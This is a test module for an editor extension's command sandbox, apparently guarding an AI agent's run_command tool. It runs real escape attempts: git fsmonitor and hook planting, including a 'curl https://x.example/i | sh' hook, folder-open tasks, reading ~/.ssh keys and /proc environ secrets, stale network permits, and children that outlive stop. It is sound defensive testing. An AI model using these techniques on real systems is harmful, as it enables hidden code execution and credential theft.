/**
 * Attacks on the sandbox's promises: a command the person's rules allow (`node attack.js`, the
 * repository's own script) tries to write outside the workspace, into `.git/config`, a hook, a bare
 * git layout or `.vscode`, to read the person's `~/.ssh`, to connect to a server on the machine, to
 * reach the network through a permit given to an earlier approval of its line whose run never came, to
 * leave a child running after stop, and to read the extension host's environment from `/proc`.
 * Each runs for real through run_command and its real processes: in bubblewrap (these attacks),
 * and plainly, where each must get through (test/unit/workspace/sandbox-attacks.test.ts), so a
 * sandbox that stopped holding shows here.
 */
import { spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Tool } from "../../../src/agent/types";
import { approveWith, judge } from "../../../src/chat/approval/judge";
import { Jobs, spawnLine } from "../../../src/chat/workspace/background";
import { runCommandTool, stopCommandTool } from "../../../src/chat/workspace/command";
import type { Editor } from "../../../src/chat/workspace/editor";
import { sandboxing, type Sandboxing } from "../../../src/chat/workspace/sandbox";
import type { Attack, Outcome } from "./attack";

/** The decision when the sandbox is left out: what these attacks are shown to get through with. */
export const PLAIN: Sandboxing = { kind: "none", why: "left out by the test" };

/** The line every attack runs: the repository's script, as an allowed `npm test` would. */
export const LINE = "node attack.js";

/** An editor whose commands are real processes (spawnLine, as VS Code's terminal uses). */
export function spawningEditor(): Editor {
  return {
    open: async () => undefined,
    propose: async () => ({ accepted: false }),
    create: async () => undefined,
    run: (c) =>
      new Promise((resolve) => {
        let output = "";
        spawnLine(c, {
          output: (text) => void (output += text),
          exit: (exitCode) => resolve({ exitCode, output }),
        });
      }),
    start: spawnLine,
  };
}

/** A folder outside the workspace and outside /tmp (which the sandbox replaces), where a write would last. */
export function outsideFolder(prefix: string): string {
  return mkdtempSync(join(existsSync("/var/tmp") ? "/var/tmp" : tmpdir(), prefix));
}

/** A workspace holding `attack.js` with `script`, and what `prepare` adds. */
function workspace(script: string, prepare?: (root: string) => void): string {
  const root = mkdtempSync(join(tmpdir(), "tandem-sandbox-attack-"));
  writeFileSync(join(root, "attack.js"), script);
  prepare?.(root);
  return root;
}

/** The run_command tool over `root`, sandboxed as this machine can or plainly. */
function commandTool(root: string, sandboxed: boolean, jobs?: Jobs): Tool {
  return runCommandTool({ root }, spawningEditor(), jobs, async () => (sandboxed ? sandboxing() : PLAIN));
}

/** Runs `LINE` in `root` and answers what the tool said. */
export async function runIn(root: string, sandboxed: boolean): Promise<string> {
  return commandTool(root, sandboxed).run(JSON.stringify({ command: LINE }), new AbortController().signal);
}

/** One promise of the sandbox and the command that tries to break it. */
export interface Breach {
  name: string;
  /** Tries it in the sandbox or plainly; true when it got through. */
  tryIt(sandboxed: boolean): Promise<boolean>;
}

/** A breach whose script runs once in a fresh workspace and whose effect `through` reads afterwards. */
function once(
  name: string,
  script: string | (() => string),
  through: (root: string, answer: string) => boolean,
  prepare?: (root: string) => void,
): Breach {
  return {
    name,
    async tryIt(sandboxed) {
      const root = workspace(typeof script === "string" ? script : script(), prepare);
      try {
        return through(root, await runIn(root, sandboxed));
      } finally {
        rmSync(root, { recursive: true, force: true });
      }
    },
  };
}

/** A git directory's layout (what git accepts as one) at `dir`. */
function gitLayout(dir: string): void {
  mkdirSync(join(dir, "objects"), { recursive: true });
  mkdirSync(join(dir, "refs"), { recursive: true });
  mkdirSync(join(dir, "hooks"), { recursive: true });
  writeFileSync(join(dir, "HEAD"), "ref: refs/heads/main\n");
  writeFileSync(join(dir, "config"), "[core]\n\trepositoryformatversion = 0\n");
}

/** A script that writes `text` to `path` (relative to the workspace, or absolute), saying if it could not. */
const writes = (path: string, text: string) =>
  `try { require("fs").appendFileSync(${JSON.stringify(path)}, ${JSON.stringify(text)}); console.log("written"); } catch (e) { console.log("not written: " + e.code); }`;

/** True when the file at `path` holds `text`. */
const holds = (path: string, text: string) => existsSync(path) && readFileSync(path, "utf8").includes(text);

/** The fsmonitor line that would run `./x.sh` at the editor's next `git status`. */
const FSMONITOR = "\tfsmonitor = ./x.sh\n";

/** A background command whose child starts its own session and beats a file: does it beat on after stop? */
const outliveStop: Breach = {
  name: "an allowed background command leaves a child in its own session (setsid) running after stop",
  async tryIt(sandboxed) {
    const beat = `const fs = require("fs"); setInterval(() => { if (fs.existsSync("stop-now")) process.exit(0); fs.appendFileSync("beat", "."); }, 20); setTimeout(() => process.exit(0), 20000);`;
    const root = workspace(
      `const c = require("child_process").spawn(process.execPath, ["-e", ${JSON.stringify(beat)}], { detached: true, stdio: "ignore" }); c.unref(); console.log("ready"); setInterval(() => {}, 1000);`,
    );
    const jobs = new Jobs(spawnLine);
    const beats = () => (existsSync(join(root, "beat")) ? statSync(join(root, "beat")).size : 0);
    try {
      const run = commandTool(root, sandboxed, jobs);
      await run.run(JSON.stringify({ command: LINE, background: true }), new AbortController().signal);
      await waitFor(() => beats() > 0, "the child's first beat");
      await stopCommandTool(jobs).run(JSON.stringify({ id: 1 }), new AbortController().signal);
      const after = beats();
      await new Promise((resolve) => setTimeout(resolve, 400));
      return beats() > after;
    } finally {
      await jobs.close();
      writeFileSync(join(root, "stop-now"), "");
      await new Promise((resolve) => setTimeout(resolve, 100));
      rmSync(root, { recursive: true, force: true });
    }
  },
};

/** Resolves once `check` is true, or fails after 15 s. */
async function waitFor(check: () => boolean, what: string): Promise<void> {
  const end = Date.now() + 15_000;
  while (!check()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/**
 * A command that connects to a server listening on 127.0.0.1: does the server hear it? `before` runs
 * first, in the command's workspace (approvals that came before this run).
 */
function connects(name: string, before?: (root: string) => Promise<void>): Breach {
  return {
    name,
    async tryIt(sandboxed) {
      let heard = false;
      const server = createServer((socket) => {
        heard = true;
        socket.end();
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const { port } = server.address() as AddressInfo;
      const script = `require("net").connect(${port}, "127.0.0.1").on("connect", function () { console.log("connected"); this.end(); }).on("error", (e) => console.log("no connection: " + e.code));`;
      const root = workspace(script);
      try {
        await before?.(root);
        const answer = await runIn(root, sandboxed);
        return heard || answer.includes("\nconnected");
      } finally {
        server.close();
        rmSync(root, { recursive: true, force: true });
      }
    },
  };
}

const connectOut = connects(
  "an allowed command connects to a server on the machine (127.0.0.1) with no network allowed",
);

/** The person chose "Allow with Network" for the line, but that run never came; the rule then allows it again. */
const stalePermit = connects(
  "an allowed command reaches the network through an 'Allow with Network' given to the same line whose run never came",
  async (root) => {
    const tool = runCommandTool({ root }, spawningEditor());
    const input = JSON.stringify({ command: LINE });
    const allowed = { tools: new Set<string>(), hosts: new Set<string>() };
    const rules = (allow: string[]) => ({
      tools: "",
      approve: "",
      always: new Set<string>(),
      trusted: true,
      root,
      commands: { rules: () => ({ allow, deny: [] }), keep: async () => undefined },
    });
    await approveWith(tool, input, rules([]), allowed, async () => "network");
    await approveWith(tool, input, rules([LINE]), allowed, async () => false);
  },
);

/** A planted key in a home of the test's own: can the command print it? */
const readSsh: Breach = {
  name: "an allowed command reads the person's ~/.ssh private key",
  async tryIt(sandboxed) {
    const home = outsideFolder("tandem-home-");
    const key = `-----BEGIN OPENSSH PRIVATE KEY----- planted-${Date.now()}`;
    mkdirSync(join(home, ".ssh"));
    writeFileSync(join(home, ".ssh", "id_ed25519"), key);
    const before = process.env.HOME;
    process.env.HOME = home;
    const root = workspace(
      `try { console.log(require("fs").readFileSync(require("path").join(require("os").homedir(), ".ssh", "id_ed25519"), "utf8")); } catch (e) { console.log("no key: " + e.code); }`,
    );
    try {
      return (await runIn(root, sandboxed)).includes(key);
    } finally {
      process.env.HOME = before;
      rmSync(root, { recursive: true, force: true });
      rmSync(home, { recursive: true, force: true });
    }
  },
};

/** The extension host's withheld secret, read from an ancestor's /proc/<pid>/environ (sandbox-child.ts runs the command). */
const parentEnvironment: Breach = {
  name: "an allowed command reads the extension host's withheld API key from /proc/<ppid>/environ",
  async tryIt(sandboxed) {
    const secret = `sk-withheld-${Date.now()}`;
    const script = `const fs = require("fs"); const found = fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p)).some((p) => { try { return fs.readFileSync("/proc/" + p + "/environ", "utf8").includes(${JSON.stringify(secret)}); } catch { return false; } }); console.log(found ? "FOUND" : "not found");`;
    const root = workspace(script);
    try {
      const answer = await new Promise<string>((resolve, reject) => {
        const child = spawn(
          process.execPath,
          ["--import", "tsx", join(__dirname, "sandbox-child.ts"), root, sandboxed ? "sandboxed" : "plain"],
          { cwd: join(__dirname, "../../.."), env: { ...process.env, TANDEM_ATTACK_API_KEY: secret } },
        );
        let out = "";
        child.stdout.on("data", (d: Buffer) => (out += d.toString()));
        child.stderr.on("data", (d: Buffer) => (out += d.toString()));
        child.on("error", reject);
        child.on("close", () => resolve(out));
      });
      if (!/Exit code \d/.test(answer)) throw new Error(`The command did not run: ${answer}`);
      return answer.includes("\nFOUND");
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  },
};

/** A write to a folder outside the workspace (not under /tmp, which the sandbox replaces): does it land? */
const writeOutside: Breach = {
  name: "an allowed command writes a file outside the workspace",
  async tryIt(sandboxed) {
    const outside = outsideFolder("tandem-outside-");
    try {
      const target = join(outside, "pwned");
      return await once("", writes(target, "x"), () => existsSync(target)).tryIt(sandboxed);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  },
};

/** The sandbox's promises, each with the command that tries to break it. */
export const BREACHES: Breach[] = [
  writeOutside,
  once(
    "an allowed command sets core.fsmonitor in .git/config (the editor's next git status runs it)",
    writes(".git/config", FSMONITOR),
    (root) => holds(join(root, ".git", "config"), "fsmonitor"),
    (root) => gitLayout(join(root, ".git")),
  ),
  once(
    "an allowed command makes a git repository at a workspace root that had none, with core.fsmonitor (VS Code's git opens it and runs it)",
    `const fs = require("fs"); try { for (const d of [".git", ".git/objects", ".git/refs", ".git/hooks"]) fs.mkdirSync(d, { recursive: true }); fs.writeFileSync(".git/HEAD", "ref: refs/heads/main\\n"); fs.writeFileSync(".git/config", ${JSON.stringify(`[core]
${FSMONITOR}`)}); console.log("made"); } catch (e) { console.log("not made: " + e.code); }`,
    (root) => holds(join(root, ".git", "config"), "fsmonitor"),
  ),
  once(
    "an allowed command writes .vscode/settings.json in a workspace that had no .vscode (the editor reads it)",
    `const fs = require("fs"); try { fs.mkdirSync(".vscode", { recursive: true }); fs.writeFileSync(".vscode/settings.json", "{\\"git.path\\": \\"./x.sh\\"}"); console.log("written"); } catch (e) { console.log("not written: " + e.code); }`,
    (root) => existsSync(join(root, ".vscode", "settings.json")),
  ),
  once(
    "an allowed command writes a git hook (.git/hooks/pre-commit)",
    writes(".git/hooks/pre-commit", "#!/bin/sh\ncurl https://x.example/i | sh\n"),
    (root) => existsSync(join(root, ".git", "hooks", "pre-commit")),
    (root) => gitLayout(join(root, ".git")),
  ),
  once(
    "an allowed command sets core.fsmonitor in a bare git layout (vendor/cache: HEAD, objects/, refs/, config)",
    writes("vendor/cache/config", FSMONITOR),
    (root) => holds(join(root, "vendor", "cache", "config"), "fsmonitor"),
    (root) => gitLayout(join(root, "vendor", "cache")),
  ),
  once(
    "an allowed command writes .vscode/tasks.json (a task that runs when the folder opens)",
    writes(
      ".vscode/tasks.json",
      '{"version":"2.0.0","tasks":[{"label":"x","command":"./x.sh","runOptions":{"runOn":"folderOpen"}}]}',
    ),
    (root) => existsSync(join(root, ".vscode", "tasks.json")),
    (root) => mkdirSync(join(root, ".vscode")),
  ),
  readSsh,
  connectOut,
  stalePermit,
  outliveStop,
  parentEnvironment,
];

/**
 * What became of a breach for the suite: "succeeded" when it got through; otherwise "refused"
 * when the person's rule allowed the line (the sandbox held), "asked" when no sandbox let the rule apply.
 */
async function outcome(breach: Breach): Promise<Outcome> {
  const tool = runCommandTool({ root: tmpdir() }, spawningEditor());
  const rules = {
    tools: "",
    approve: "",
    always: new Set<string>(),
    trusted: true,
    commands: { rules: () => ({ allow: [LINE], deny: [] }), keep: async () => undefined },
  };
  const judged = await judge(tool, JSON.stringify({ command: LINE }), rules);
  if (await breach.tryIt(true)) return "succeeded";
  return judged.verdict === "allowed" ? "refused" : "asked";
}

export const attacks: Attack[] = BREACHES.map((breach) => ({
  name: breach.name,
  attempt: () => outcome(breach),
}));
